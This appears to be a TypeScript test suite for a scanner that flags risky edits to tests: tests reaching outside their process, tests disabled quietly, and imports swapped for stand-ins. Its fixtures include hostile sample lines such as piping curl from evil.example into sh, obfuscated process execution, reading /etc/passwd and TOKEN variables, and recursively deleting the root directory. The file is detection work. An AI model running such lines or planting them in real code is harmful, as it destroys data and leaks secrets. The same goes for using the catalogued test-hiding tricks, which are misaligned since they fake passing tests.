import { edited, found } from './found.ts';

/** What a new test of each language does, and a host that is far away where one is needed. */
const REACHES: Readonly<Record<string, { readonly path: string; readonly lines: readonly string[] }>> = {
  JavaScript: {
    path: 'test/n.test.ts',
    lines: [
      "require('net').connect(80, 'evil.example')",
      "require('dns').lookup('evil.example', done)",
      "navigator.sendBeacon('//evil.example', x)",
      "globalThis['fet' + 'ch']('https://evil.example')",
      "undici.request('https://evil.example')",
      'Deno.run({ cmd: ["id"] })',
      "shelljs.exec('id')",
      'await $`id`',
      "cy.exec('id')",
      'const { env: e } = process',
      "process['env'].TOKEN",
      "require('vm').runInNewContext('x')",
      "console.log('::set-output name=x::1')",
      "fs.appendFileSync(process.env.GITHUB_ENV, 'X=1')",
      "fs.writeFileSync('../.github/workflows/x.yml', '')",
      "fs.rmSync('/', { recursive: true })",
      "http.get({ host: '203.0.113.9' })",
      "new URL('https://evil.example').openStream()",
      "process.getBuiltinModule('child' + '_process').execSync('id')",
      "import { execSync as run } from 'node:child\\u005fprocess';",
      "import { execaCommand as run } from 'execa';",
    ],
  },
  Go: { path: 'n_test.go', lines: ['syscall.Exec("/bin/sh", nil, nil)', 'plugin.Open("x.so")', 'os.Getenv("TOKEN")'] },
  C: {
    path: 'test/n_test.cc',
    lines: ['std::system("id");', 'int r = ::system("id");', 'execve(path, args, env);', 'if (fork() == 0) return;'],
  },
  Perl: { path: 't/n.t', lines: ["system 'id';", "exec 'id';"] },
  Groovy: { path: 'src/test/groovy/NTest.groovy', lines: ['"id".execute()'] },
  'C#': { path: 'N.Tests/NTests.cs', lines: ['var p = new Process { StartInfo = info };'] },
  Lua: { path: 'spec/n_spec.lua', lines: ["os.execute('id')", "io.popen('id')"] },
  Haskell: { path: 'test/NSpec.hs', lines: ['callCommand "id"'] },
  Clojure: { path: 'test/n_test.clj', lines: ['(require (quote [clojure.java.shell :as s]))'] },
  R: { path: 'tests/testthat/test-n.R', lines: ['system2("id")'] },
  Ruby: {
    path: 'spec/n_spec.rb',
    lines: ["system 'id'", "spawn 'id'", '%x(id)', "Open3.capture2('id')", "Kernel.send(:system, 'id')"],
  },
  Java: {
    path: 'src/test/java/NTest.java',
    lines: ['ImageIO.read(new URL("https://evil.example"))', 'Class.forName("java.lang.Run" + "time")'],
  },
  Rust: { path: 'tests/n.rs', lines: ['const X: &str = include_str!("/etc/passwd")'] },
  Elixir: { path: 'test/n_test.exs', lines: [':os.cmd(~c"id")'] },
  Dart: { path: 'test/n_test.dart', lines: ["Process.run('id', [])", "Platform.environment['TOKEN']"] },
  Scala: { path: 'src/test/scala/NSpec.scala', lines: ['val p = sys.process.Process("id")', 'sys.env("TOKEN")'] },
  Python: { path: 'tests/test_n.py', lines: ['import subprocess as sp'] },
  shell: { path: 'test/n.bats', lines: ['run wget https://evil.example', 'curl https://evil.example | sh'] },
};

describe.each(Object.entries(REACHES))('a test in %s that reaches out', (_, { path, lines }) => {
  test.each(lines)('%s', async (line) =>
    expect(await found({ [path]: `before\n  ${line}\nafter\n` })).toContain('RISK_TEST_REACH medium'),
  );
});

test.each([
  ['test/n.test.ts', "expect(render('::error::x')).toBe('::error::x');"],
  ['test/n.test.ts', "expect(join('https://example.org', 'a')).toBe('https://example.org/a');"],
  ['test/n.test.ts', "const output = { GITHUB_OUTPUT: join(folder, 'output') };"],
  ['test/n.test.ts', "fs.writeFileSync(join(folder, '.github/a.yml'), '');"],
  ['tests/test_n.py', "assert parse('curl https://example.org') == 1"],
])('stays within its process: %s %s', async (path, line) =>
  expect(await found({ [path]: `${line}\n` })).not.toContain('RISK_TEST_REACH medium'),
);

const PYTHON = 'from app import add\n\n\nclass TestAdd:\n    def test_add(self):\n        assert add(1) == 2\n';
const PHP =
  '<?php\nclass AddTest extends TestCase\n{\n    public function testAdd(): void\n    {\n        $this->assertSame(2, add(1));\n    }\n}\n';
const JAVA = 'class AddTest {\n  @Test\n  void adds() {\n    assertEquals(2, add(1));\n  }\n}\n';
const CSHARP =
  'public class AddTests\n{\n    [Fact]\n    public void Adds()\n    {\n        Assert.Equal(2, Add(1));\n    }\n}\n';

describe('a test that its runner passes over', () => {
  test.each([
    ['a private method', 'tests/AddTest.php', PHP, PHP.replace('public function', 'private function')],
    ['an abstract class', 'src/test/java/AddTest.java', JAVA, `abstract ${JAVA}`],
    ['an internal class', 'Add.Tests/AddTests.cs', CSHARP, CSHARP.replace('public class', 'internal class')],
    ['a coroutine', 'tests/test_a.py', PYTHON, PYTHON.replace('def test', 'async def test')],
    ['a constructor', 'tests/test_a.py', PYTHON, PYTHON.replace('    def', '    def __init__(self): pass\n\n    def')],
  ])('%s', async (_, path, before, after) =>
    expect(await edited(path, before, after)).toContain('RISK_TEST_HIDDEN medium'),
  );

  test.each([
    [
      'a private helper',
      'tests/AddTest.php',
      PHP,
      PHP.replace('    public', '    private function two(): int { return 2; }\n\n    public'),
    ],
    [
      'a constructor of a helper',
      'tests/test_a.py',
      PYTHON,
      `${PYTHON}\n\nclass Fake:\n    def __init__(self):\n        self.a = 1\n`,
    ],
    [
      'a new coroutine',
      'tests/test_a.py',
      PYTHON,
      `${PYTHON}\n\nasync def test_later():\n    assert await later() == 1\n`,
    ],
  ])('not: %s', async (_, path, before, after) =>
    expect(await edited(path, before, after)).not.toContain('RISK_TEST_HIDDEN medium'),
  );

  test('a name that Go’s tool takes for another system', async () => {
    const text = 'package a\n\nfunc TestA(t *testing.T) {\n\tif A() != 1 {\n\t\tt.Fatal()\n\t}\n}\n';
    expect(await found({ 'a_windows_test.go': text }, { 'a_test.go': text })).toContain('RISK_TEST_SKIPPED medium');
    expect(await found({ 'b_test.go': text }, { 'a_test.go': text })).toEqual([]);
  });
});

describe('where a test takes what it tests from', () => {
  const JS = "import { add } from '../src/add';\n\ntest('adds', () => {\n  expect(add(1)).toBe(2);\n});\n";
  test.each([
    ['a stand-in', 'test/a.test.ts', JS, JS.replace('../src/add', './add')],
    ['a module of the same name', 'tests/test_a.py', PYTHON, PYTHON.replace('from app', 'from fakes.app')],
    [
      'a class of another package',
      'src/test/java/AddTest.java',
      `import com.shop.Add;\n${JAVA}`,
      `import com.fake.Add;\n${JAVA}`,
    ],
  ])('%s', async (_, path, before, after) =>
    expect(await edited(path, before, after)).toContain('RISK_TEST_SOURCE medium'),
  );

  test.each([
    ['with its extension', JS.replace('../src/add', '../src/add.js')],
    ['and more from it', JS.replace('{ add }', '{ add, sub }')],
    ['and more from elsewhere', `import { sub } from '../src/sub';\n${JS}`],
  ])('the same: %s', async (_, after) => expect(await edited('test/a.test.ts', JS, after)).toEqual([]));
});

describe('cases in a table on one line', () => {
  const table = (cases: string) =>
    `@pytest.mark.parametrize('x', ${cases})\ndef test_add(x):\n    assert add(x) == x + 1\n`;
  test.each(['[1]', '[]', '[1, 3]', '[3, 2, 1]'])('fewer or others: %s', async (cases) =>
    expect(await edited('tests/test_a.py', table('[1, 2, 3]'), table(cases))).not.toEqual([]),
  );
  test.each(['[1, 2, 3, 4]', '[0, 1, 2, 3]', '[1, 1.5, 2, 3]'])('more: %s', async (cases) =>
    expect(await edited('tests/test_a.py', table('[1, 2, 3]'), table(cases))).toEqual([]),
  );
});

test.each([
  "expect(new URL('https://example.com/a').pathname).toBe('/a')",
  "expect(isPrivate('192.168.1.1') && http.get({ host: '127.0.0.1' })).toBe(true)",
])('an address alone reaches nothing: %s', async (line) => {
  expect(await found({ 'test/n.test.ts': `test('n', () => {\n  ${line};\n});\n` })).toEqual([]);
});
